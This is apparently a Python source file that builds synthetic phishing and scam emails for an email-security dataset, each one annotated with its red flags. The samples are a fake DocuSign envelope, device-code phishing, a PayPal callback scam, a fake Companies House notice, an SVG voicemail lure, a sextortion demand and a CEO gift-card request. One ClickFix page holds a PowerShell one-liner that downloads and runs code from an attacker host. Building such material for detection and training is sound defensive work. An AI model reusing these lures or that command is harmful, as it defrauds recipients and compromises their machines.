"""Attack messages 09-16 (English)."""
import files
import ids
import infra
from company import BANK, S, C
from helpers import alt, esc, html_gmail, html_outlook, html_tb, mixed, pdf_att, qr_img, quote_gt, \
    quote_outlook, related, zip_att
from mime import Bin, Multi, Text

MSGS = []


def reg(f):
    MSGS.append(f)
    return f


def A(num, lang, slug, **kw):
    d = dict(folder='attack', num=num, lang=lang, slug=slug)
    d.update(kw)
    return d


# ---------------------------------------------------------------------------------------------
# --- English ---------------------------------------------------------------------------------------
@reg
def a09():
    link = 'https://castlefield-esign.pages.dev/envelope/?e=5b2c9f4e-81d3-4a7e-9c0f-3d77a1e6b210&r=oliver.hughes%40example.com'
    plain = f"""Castlefield Property Management sent you a document to review and sign.

REVIEW DOCUMENT
{link}

James Whitfield
j.whitfield@castlefield-pm.co.uk

Dear Oliver,

Please review and sign the Schedule of Dilapidations and the 2027 service charge addendum for Unit 4, Peter House, Oxford Street, Manchester. Signature is required by 27 November to keep the renewal terms agreed.

Kind regards,
James

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding."""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#eaeaea">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea"><tr><td style="padding:20px">
<table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:10px 24px"><span style="font-size:22px;font-weight:bold;color:#4c00ff">docusign</span></td></tr>
<tr><td style="background:#4c00ff;padding:28px 24px;color:#ffffff;text-align:center">
<p style="font-size:16px">Castlefield Property Management sent you a document to review and sign.</p>
<a href="{link}" style="background:#ffc820;color:#000;padding:12px 22px;text-decoration:none;font-weight:bold;font-size:14px">REVIEW DOCUMENT</a>
</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333">
<p><b>James Whitfield</b><br><a href="mailto:j.whitfield@castlefield-pm.co.uk">j.whitfield@castlefield-pm.co.uk</a></p>
<p>Dear Oliver,</p><p>Please review and sign the Schedule of Dilapidations and the 2027 service charge addendum for Unit 4, Peter House, Oxford Street, Manchester. Signature is required by 27 November to keep the renewal terms agreed.</p>
<p>Kind regards,<br>James</p></td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#666;background:#f4f4f4"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br><b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr>
</table></td></tr></table></body></html>"""
    return A(9, 'en', 'fake-docusign-lease-lookalike',
             date='2026-11-20 15:12:44', zone='UK',
             **{'from': ('Castlefield Property Management via Docusign', 'dse@eu-docusign-mail.net')},
             to=[S('uk_mgr')],
             env_from='bounce+7f21ab.1c9e2-oliver.hughes=example.com@eu-docusign-mail.net',
             subject='Complete with Docusign: Peter_House_Unit4_Dilapidations_2027.pdf',
             body=Multi('alternative', [Text(plain, 'plain', 'us-ascii', '7bit'),
                                        Text(html, 'html', 'utf-8', 'quoted-printable')], None),
             infra=infra.mailgun, ikw=dict(from_dom='eu-docusign-mail.net'),
             what='Fake DocuSign envelope "from the Manchester landlord" about the lease renewal; button leads to a '
                  'Cloudflare Pages site.',
             why='Not sent from DocuSign\'s infrastructure (Mailgun, look-alike domain eu-docusign-mail.net); the link '
                 'goes to *.pages.dev instead of docusign.net; no envelope access code; reuses a real business '
                 'context (lease renewal). Genuine DocuSign envelope from the landlord: business 09.')


@reg
def a10():
    text = """Dear Oliver,

Ahead of the centre audit on Thursday 3 December, I have uploaded the pre-audit checklist and the invigilator declaration templates to our shared compliance folder.

Since last month the Anglia compliance portal uses Microsoft sign-in, so you will need to link your centre account once before the meeting:

1. Go to https://microsoft.com/devicelogin
2. Enter the code HPN7QK4ZT
3. Sign in with your usual Example Group work account and approve.

The code is only valid for 15 minutes, so please do it as soon as you read this - if it expires just reply and I will send a new one.

The Teams invitation for the audit call will follow separately.

Best wishes,
Rebecca

Rebecca Hall
Centre Quality Manager
Anglia Assessment Services Ltd
Tel: +44 1223 760 418"""
    return A(10, 'en', 'device-code-phishing-exam-board-lookalike',
             date='2026-11-26 09:05:31', zone='UK',
             **{'from': ('Rebecca Hall', 'rebecca.hall@anglia-assesment.co.uk')},
             to=[S('uk_mgr')],
             subject='Centre audit 3 December - pre-audit checklist and portal access',
             body=alt(text, html_gmail(text), 'UTF-8', 'quoted-printable'),
             infra=infra.gmail, ikw=dict(),
             what='Device-code phishing: fake exam-board quality manager asks the centre manager to enter a code at '
                  'the genuine microsoft.com/devicelogin page.',
             why='Look-alike domain anglia-assesment.co.uk (missing "s") on Google Workspace; entering the code grants '
                 'the attacker OAuth tokens for the victim\'s M365 account (device-code flow abuse, MFA bypassed); '
                 '15-minute urgency. The real exam board sends Teams invitations from anglia-assessment.co.uk: business 10.')


@reg
def a11():
    note = ('Your Norton 360 Total Security annual plan (5 devices) has been renewed for GBP 389.99. '
            'If you did not authorise this renewal, call our billing desk on +44 20 3808 4417 within 24 hours '
            'to cancel and receive a full refund. Reference NTN-UK-77310482.')
    plain = f"""Norton Billing Dept sent you an invoice for GBP 389.99

Invoice details
Amount requested: £389.99 GBP
Note from seller:
{note}

Invoice number: INV2-7HQK-WX9C-3RTB-N2DM
Due date: 27 Nov 2026

View and Pay Invoice:
https://www.paypal.com/invoice/p/#INV27HQKWX9C3RTBN2DM

Don't recognise this invoice? Report it: https://www.paypal.com/invoice/p/#INV27HQKWX9C3RTBN2DM/report

PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.
Copyright © 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A."""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="font-family:PayPal Sans,Helvetica,Arial,sans-serif;background:#ffffff">
<table width="600" align="center"><tr><td><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal"></td></tr>
<tr><td><h2 style="font-weight:400">Norton Billing Dept sent you an invoice for £389.99 GBP</h2></td></tr>
<tr><td style="background:#f5f7fa;padding:16px"><p><b>Note from seller</b><br>{esc(note)}</p>
<p>Invoice number: INV2-7HQK-WX9C-3RTB-N2DM<br>Due date: 27 Nov 2026</p></td></tr>
<tr><td style="padding:20px 0"><a href="https://www.paypal.com/invoice/p/#INV27HQKWX9C3RTBN2DM" style="background:#003087;color:#fff;padding:12px 26px;border-radius:24px;text-decoration:none">View and Pay Invoice</a></td></tr>
<tr><td style="font-size:12px;color:#666">Don't recognise this invoice? <a href="https://www.paypal.com/invoice/p/#INV27HQKWX9C3RTBN2DM/report">Report it</a><br><br>Copyright © 1999-2026 PayPal. All rights reserved.</td></tr></table></body></html>"""
    return A(11, 'en', 'callback-phishing-via-genuine-paypal-invoice',
             date='2026-11-25 04:12:09', zone='PT',
             **{'from': ('service@paypal.co.uk', 'service@paypal.co.uk')},
             to=[S('uk_acc')],
             env_from='bounce@paypal.co.uk',
             subject='Invoice from Norton Billing Dept (INV2-7HQK-WX9C-3RTB-N2DM)',
             body=alt(plain, html, 'UTF-8', 'quoted-printable'),
             infra=infra.paypal,
             what='Callback phishing (TOAD) delivered through a genuine PayPal invoice: a fake "Norton Billing Dept" '
                  'merchant account bills GBP 389.99 and the seller note pushes a phone number to "cancel".',
             why='Abuse of a real service: the mail really comes from PayPal, but the merchant is a scammer account '
                 'unrelated to the company; the only call to action is the phone number, where victims are talked into '
                 'remote-access tools or "refund" transfers; urgency (24 hours).')


@reg
def a12():
    link = 'https://u48213770.ct.sendgrid.net/ls/click?upn=u001.Qx7L5nR2-2FkV9s0Zp1wX8mC3bH6yT4eJ0aN7dG5uK2fS9rW1vY3qZ8cE6xB4hM0'
    text = f"""Companies House

Identity verification: action required

Company name: EXAMPLE GROUP UK LIMITED
Company number: 09874312

Dear Director,

From 18 November 2026 all directors and persons with significant control must have verified their identity with Companies House. Our records show that the identity of at least one officer of the company above has not yet been verified.

If verification is not completed by 4 December 2026, the company's next confirmation statement cannot be filed and the company may be subject to a late filing penalty and compliance action.

Verify your identity now (approx. 5 minutes, a GBP 12.00 processing fee applies):
{link}

You will need your passport or UK photocard driving licence and a debit or credit card.

Companies House
Crown Way, Cardiff, CF14 3UZ

This is an automated message. Please do not reply."""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;margin:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;padding:14px 20px;color:#fff;font-weight:bold;font-size:24px">GOV.UK</td></tr></table>
<table width="580" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 0">
<h1 style="font-size:26px">Identity verification: action required</h1>
<p>Company name: <b>EXAMPLE GROUP UK LIMITED</b><br>Company number: <b>09874312</b></p>
<p>Dear Director,</p>
<p>From 18 November 2026 all directors and persons with significant control must have verified their identity with Companies House. Our records show that the identity of at least one officer of the company above has not yet been verified.</p>
<p style="border-left:10px solid #b1b4b6;padding-left:15px">If verification is not completed by <b>4 December 2026</b>, the company's next confirmation statement cannot be filed and the company may be subject to a late filing penalty and compliance action.</p>
<p><a href="{link}" style="background:#00703c;color:#fff;padding:10px 16px;text-decoration:none;font-weight:bold">Verify your identity now</a></p>
<p style="font-size:14px">Approx. 5 minutes. A GBP 12.00 processing fee applies. You will need your passport or UK photocard driving licence and a debit or credit card.</p>
<p style="font-size:14px;color:#505a5f">Companies House, Crown Way, Cardiff, CF14 3UZ<br>This is an automated message. Please do not reply.</p>
</td></tr></table><img src="https://u48213770.ct.sendgrid.net/wf/open?upn=u001.Kp9" width="1" height="1" alt=""></body></html>"""
    return A(12, 'en', 'companies-house-idv-phish-sendgrid',
             date='2026-11-23 08:02:17', zone='UK',
             **{'from': ('Companies House', 'no-reply@companieshouse-idv.uk')},
             to=[S('uk_mgr')],
             env_from='bounces+48213770-8a1c-oliver.hughes=example.com@em6215.companieshouse-idv.uk',
             subject='Action required: verify your identity for EXAMPLE GROUP UK LIMITED',
             body=alt(text, html, 'utf-8', 'quoted-printable'),
             infra=infra.sendgrid, ikw=dict(from_dom='companieshouse-idv.uk'),
             what='Companies House "identity verification required" notice via SendGrid with a GOV.UK-styled page '
                  'that collects passport data and card details for a "GBP 12 fee".',
             why='Companies House mails from companieshouse.gov.uk via GOV.UK Notify, and identity verification via '
                 'GOV.UK One Login is free; sender is the look-alike companieshouse-idv.uk; SendGrid click-tracking '
                 'hides the destination; penalty threat; even the start date is wrong (the duty began on 18 November 2025). Genuine Companies House reminder: business 14.')


@reg
def a13():
    link = 'https://rc-voicemail.netlify.app/play/?m=VM-0161-4960732&id=cHJpeWEuc2hhcm1hQGV4YW1wbGVncm91cC5ldQ'
    text = """You have received a new voice message.

From: +44 161 496 0732 (MANCHESTER)
To: Priya Sharma
Received: Wed 25 Nov 2026 10:52
Duration: 00:48

The audio message is attached to this email.

RingCentral Voice Notification Service"""
    svg = f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="220" viewBox="0 0 480 220">
  <rect width="480" height="220" rx="12" fill="#f6f7f9" stroke="#d0d4da"/>
  <text x="24" y="44" font-family="Segoe UI, Arial" font-size="20" fill="#0684bd" font-weight="bold">RingCentral</text>
  <text x="24" y="84" font-family="Segoe UI, Arial" font-size="15" fill="#222">Voice message from +44 161 496 0732</text>
  <text x="24" y="108" font-family="Segoe UI, Arial" font-size="13" fill="#555">Duration 00:48 - 25/11/2026 10:52</text>
  <a xlink:href="{link}" href="{link}" target="_blank">
    <rect x="24" y="138" width="180" height="44" rx="22" fill="#0684bd"/>
    <text x="62" y="166" font-family="Segoe UI, Arial" font-size="16" fill="#ffffff">&#9654; Play message</text>
  </a>
  <!-- inert sample: no script -->
</svg>
"""
    body = mixed(Text(text, 'plain', 'iso-8859-1', '8bit'),
                 Bin(svg.encode(), 'image/svg+xml', 'VM_441614960732_00-48.svg'))
    return A(13, 'en', 'svg-voicemail-lure-compromised-wordpress',
             date='2026-11-25 10:53:02', zone='UK',
             **{'from': ('Voice Message', 'wordpress@greenleaf-dental.co.uk')},
             to=[S('uk_acc')],
             subject='New voicemail from +44 161 496 0732 (00:48)',
             body=body, infra=infra.exim,
             ikw=dict(host='cp-ns12.uk-webhosting.net', ip='185.151.30.141', client_ip='', local=True,
                      mailer='PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
             what='Fake RingCentral voicemail notification with an SVG attachment whose "Play message" button links to '
                  'a credential-phishing page.',
             why='Sent by the WordPress installation of an unrelated dental practice (compromised site, PHPMailer); '
                 'the company does not use RingCentral; voicemail "audio" is an SVG image with an external link '
                 '(SVG smuggling lure; script removed in this inert sample); recipient address encoded in the URL.')


@reg
def a14():
    btc = ids.btc_address('audit58-extortion-a14')
    text = f"""Hello!

I have to share bad news with you.
Approximately a few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase it online).
Obviously, I have easily managed to log in to your email account ({S('uk_acc')[1]}).

One week later, I have already installed a trojan virus to Operating Systems of all the devices that you use to access your email.
In fact, it was not really hard at all (since you were following the links from your inbox emails).
All ingenious is simple.

This software provides me with access to all the controllers of your devices (e.g., your microphone, video camera and keyboard).
I have downloaded all your information, data, photos, web browsing history to my servers.
I have access to all your messengers, social networks, emails, chat history and contacts list.

I have recorded several videos of you and made a compilation, and I am ready to send it to all your colleagues and contacts with one click.

I think 1450 USD is a very fair price for my silence. Send the amount in Bitcoin (BTC) to my wallet:
{btc}

You have 48 hours after opening this email. I have a special pixel in this email, and I know when you read it.
Do not try to reply, this address was created only for this message. Do not go to the police - if I see anything suspicious, the video goes out immediately.
After payment I delete everything and you will never hear from me again."""
    return A(14, 'en', 'sextortion-bitcoin-spoofed-self',
             date='2026-12-06 03:17:44', zone='UTC',
             **{'from': ('', S('uk_acc')[1])}, to=[S('uk_acc')],
             env_from='cathy_mcnally@vnpt-static.vn',
             subject='Security notice: your account has been compromised',
             body=Text(text, 'plain', 'us-ascii', '7bit'),
             infra=infra.direct, ikw=dict(helo='[113.161.54.201]', ip='113.161.54.201',
                                          rdns='static.vnpt.vn', mailer='Microsoft Outlook Express 6.00.2900.5512'),
             what='Sextortion/"hacked account" extortion demanding 1,450 USD in Bitcoin within 48 hours.',
             why='Header From forged to the recipient\'s own address, sent directly by a bot on a Vietnamese '
                 'residential line (no provider hops, fake Outlook Express X-Mailer); generic threat text; Bitcoin '
                 'bech32 wallet as payment channel.')


@reg
def a15():
    text = """Hi Oliver,

Are you at your desk? I need a small favour handled discreetly today.

We want to surprise the exam invigilators and the weekend teaching team with a Christmas thank-you before the last exam session, and I would like it to stay a surprise, so please don't mention it to anyone in the office yet.

Could you pick up 8 Apple gift cards of 100 GBP each (Tesco or Argos will have them)? Once you have them, scratch the back, take a clear photo of each card showing the code and email the photos to me here. I will sort the reimbursement with Priya and HR tomorrow.

I'm in back-to-back meetings with the board all afternoon and can't take calls, so email is best.

Thanks a lot,
Jürgen

Jürgen Köhler
CEO, Example Group"""
    return A(15, 'en', 'gift-card-request-ceo-freemail',
             date='2026-12-10 13:48:22', zone='DE',
             **{'from': ('Jürgen Köhler', 'jkoehler.office@outlook.com')}, to=[S('uk_mgr')],
             subject='Quick favour',
             body=alt(text, html_outlook(text, 'utf-8', 'EN-GB'), 'utf-8', 'quoted-printable'),
             infra=infra.exo, ikw=dict(region='cons', lang='en-GB', topic='Quick favour'),
             what='Gift-card scam: "the CEO" asks the Manchester manager to buy 8 x 100 GBP Apple gift cards and e-mail '
                  'photos of the codes.',
             why='Consumer outlook.com account with the CEO\'s display name; gift cards with codes sent by mail, secrecy, '
                 'no calls possible; reimbursement promised later. The genuine staff-voucher programme is run by HR '
                 'through the internal relay: business 15.')


@reg
def a16():
    cmd = 'powershell -w h -nop -c "irm https://cdn-wordfonts.com/fix/KB5044284 | iex"'
    prev = quote_outlook('en', 'Oliver Hughes <oliver.hughes@example.com>', '11 November 2026 16:20',
                         'Daniel Cooper <d.cooper@pennine-fresh.co.uk>',
                         'Proposal - Business English for warehouse supervisors (Q1 2027)',
                         """Dear Daniel,

Thank you for the call today. As discussed, please find attached our proposal for two in-company groups (B1 and B2) for your warehouse supervisors, 20 sessions each from January 2027.

Kind regards,
Oliver""")
    text = """Hi Oliver,

Thanks again for the revised proposal. Our procurement team has approved it and prepared the purchase order together with the supplier onboarding form.

I've attached both as a secure document - please open it on a Windows PC (it doesn't display on mobile) and return the onboarding form by Friday so we can set you up before the January start.

Best regards,
Daniel

Daniel Cooper
Head of Operations
Pennine Fresh Foods Ltd

""" + prev
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>PO-PFF-2026-1187.docx - Word</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}}
.bar{{background:#185abd;color:#fff;padding:10px 18px;font-size:15px}}
.err{{width:560px;margin:70px auto;background:#fff;border:1px solid #c8c6c4;padding:28px}}
code{{display:block;background:#f3f2f1;border:1px solid #ccc;padding:8px;font-size:12px;margin:10px 0;word-break:break-all}}</style></head>
<body><div class="bar">Word &nbsp;|&nbsp; PO-PFF-2026-1187.docx</div>
<div class="err"><h3 style="color:#a4262c">&#9888; The document could not be displayed</h3>
<p>The "Word Online" extension is not installed or the font cache is damaged. To view this protected document, apply the fix:</p>
<ol><li>Press <b>Windows + R</b></li><li>Copy the line below and paste it with <b>Ctrl + V</b></li><li>Press <b>Enter</b>, then reload this page</li></ol>
<code>{esc(cmd)}</code>
<p style="font-size:12px;color:#666">Error code: 0x80070643 &middot; KB5044284</p></div>
<!-- inert sample: no clipboard script --></body></html>
"""
    body = mixed(alt(text, html_outlook(text, 'windows-1252', 'EN-GB'), 'windows-1252', 'quoted-printable'),
                 Bin(page.encode('utf-8'), 'text/html; charset="utf-8"', 'PO-PFF-2026-1187_secure.html'))
    return A(16, 'en', 'clickfix-html-attachment-thread-reply',
             date='2026-11-18 12:36:50', zone='UK',
             **{'from': ('Daniel Cooper', 'd.cooper@pennine-fresh.co.uk')}, to=[S('uk_mgr')],
             subject='RE: Proposal - Business English for warehouse supervisors (Q1 2027)',
             body=body, infra=infra.exo,
             ikw=dict(region='gbr', lang='en-GB', has_attach=True,
                      topic='Proposal - Business English for warehouse supervisors (Q1 2027)'),
             in_reply_to='<LO4P265MB58214C1A7E2D0B9F1AA2C3E4B5D6F708190@LO4P265MB5821.GBRP265.PROD.OUTLOOK.COM>',
             what='ClickFix: reply in a real proposal thread from a customer\'s (compromised) mailbox with an HTML '
                  '"secure document" telling the user to paste a PowerShell one-liner into Win+R.',
             why='A genuine customer mailbox is abused (thread context is real), but the attachment is a fake Word '
                 'error page whose "fix" downloads and executes remote code (irm | iex); no purchase order exists. '
                 'Genuine customer reply with PO: business 16.')
